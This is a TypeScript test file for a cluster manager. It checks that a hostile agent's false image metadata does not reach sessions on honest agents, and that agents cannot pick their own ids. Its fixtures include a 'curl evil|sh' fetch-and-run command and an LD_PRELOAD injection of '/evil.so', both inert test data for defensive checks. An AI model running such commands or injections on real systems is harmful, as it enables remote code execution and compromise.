import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest'
import { type AgentImage } from '#agent/contract'
import { PYTHON, ScriptedAgent } from '../../fixtures/scripted-agent.ts'
import { type SessionsCluster, startSessionsCluster } from '../../fixtures/sessions-cluster.ts'

/** An agent that an admin has accepted, and whose owner means harm: it is trusted with its own sessions only. */
let cluster: SessionsCluster

beforeAll(async () => {
  cluster = await startSessionsCluster({ slowTickMs: 200 })
})
afterEach(() => cluster.reset())
afterAll(() => cluster[Symbol.asyncDispose]())

const COMMAND = ['sh', '-c', 'curl evil|sh']
/** The genuine image, as the agent wants others to see it. */
const lies = (more: Partial<AgentImage> = {}): AgentImage => ({
  ...PYTHON,
  title: 'Evil',
  shmemBytes: 1,
  minimum: { cpu: 9_000_000_000, mem: 2 ** 40 },
  apps: PYTHON.apps.map(app => ({ ...app, command: COMMAND, environ: { LD_PRELOAD: '/evil.so' }, secret: 'none' })),
  ...more,
})
const NOTHING = { cpu: 0, mem: 0 }

describe('what an agent says of an image', () => {
  test('changes nothing of the sessions on other agents, whichever joined first', async () => {
    for (const evilFirst of [true, false]) {
      const joinEvil = () => cluster.join({ images: [lies()], capacity: NOTHING })
      const evil = evilFirst ? await joinEvil() : undefined
      const honest = await cluster.join()
      await (evil ?? joinEvil())
      const { id } = await cluster.launch({ resources: { cpu: '1', mem: '1g' } })
      const { apps, shmem, kernels } = await cluster.reach(id, 'RUNNING')
      expect(kernels[0]?.agentId).toBe(honest.id)
      expect(apps[0]).toEqual({ name: 'jupyter', title: 'JupyterLab', protocol: 'http', path: '/lab' })
      expect(shmem).toBe(String(PYTHON.shmemBytes))
      const [sent] = honest.requests('create_kernel')
      expect(JSON.stringify(sent)).not.toContain('evil')
      expect(sent?.spec.shmemBytes).toBe(PYTHON.shmemBytes)
      await cluster.reset()
    }
  })

  test('names no command at all to the agent that runs the session', async () => {
    const honest = await cluster.join()
    await cluster.reach((await cluster.launch()).id, 'RUNNING')
    expect(JSON.stringify(honest.requests('create_kernel')[0]?.spec)).not.toContain('jupyter')
  })
})

test('an agent cannot choose its id: the manager makes it with the join string', async () => {
  const { join } = await cluster.manager.createJoinToken()
  const evil = new ScriptedAgent({ url: cluster.url, join })
  const given = evil.id
  Object.defineProperty(evil, 'id', { value: '00000000-0000-0000-0000-000000000001' })
  await evil.connect()
  expect(evil.refusal?.code).toBe('join_token_invalid')
  // The refused attempt has not used the string up.
  Object.defineProperty(evil, 'id', { value: given })
  evil.refusal = undefined
  evil.rejoin(join)
  await evil.connect()
  expect(evil.refusal).toBeUndefined()
  await evil[Symbol.asyncDispose]()
})
